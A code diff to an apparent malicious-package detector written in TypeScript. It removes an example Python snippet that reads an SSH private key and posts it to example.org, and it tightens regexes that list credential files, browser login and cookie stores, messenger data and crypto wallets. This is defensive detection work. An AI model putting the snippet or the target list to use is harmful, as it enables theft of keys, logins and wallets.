@@ -14,17 +14,6 @@ export const credentials: CodeSign = {
       'Clients of cloud services read their own configuration there, hence a weak sign.',
       'Wallets and cookies of browsers are strong; read and sent in one flow it is loud.',
     ].join('\n'),
-    bad: {
-      files: {
-        'acme/__init__.py':
-          "import os, requests\ndef go():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('https://example.org/', data=key)\n",
-      },
-    },
-    good: {
-      files: {
-        'acme/__init__.py': "import os\ndef cache():\n    return os.path.expanduser('~/.cache/acme')\n",
-      },
-    },
   },
   trigger:
     /[/\\~'"]\.(?:ssh|aws|pypirc|netrc|kube|npmrc|docker|git-credentials|gnupg)\b|id_(?:rsa|ed25519|ecdsa)|Login Data|Local State|logins\.json|key4\.db|Network.{1,2}Cookies|Local Storage|tdata|wallet/i,
@@ -58,4 +47,4 @@ export function readsSecret(source: PythonSource, node: Node, name: string | nul
 const secrets =
   /(?:^|[/\\~])\.(?:ssh|aws|pypirc|netrc|kube|npmrc|docker|git-credentials|gnupg)(?:[/\\]|$)|\bid_(?:rsa|ed25519|ecdsa)\b/;
 const valuables =
-  /\b(?:Login Data|Local State|logins\.json|key4\.db)$|[/\\]Network[/\\]Cookies$|(?:discord\w{0,8}|Telegram Desktop)[/\\](?:Local Storage|tdata)|\b(?:wallet\.dat|Exodus[/\\]exodus\.wallet|Electrum[/\\]wallets)\b/i;
+  /(?:^|[/\\])(?:Login Data|Local State|logins\.json|key4\.db)$|[/\\]Network[/\\]Cookies$|(?:[Dd]iscord\w{0,8}|Telegram Desktop)[/\\]{1,2}(?:Local Storage|tdata)|\b(?:wallet\.dat|Exodus[/\\]{1,2}exodus\.wallet|Electrum[/\\]{1,2}wallets)\b/;
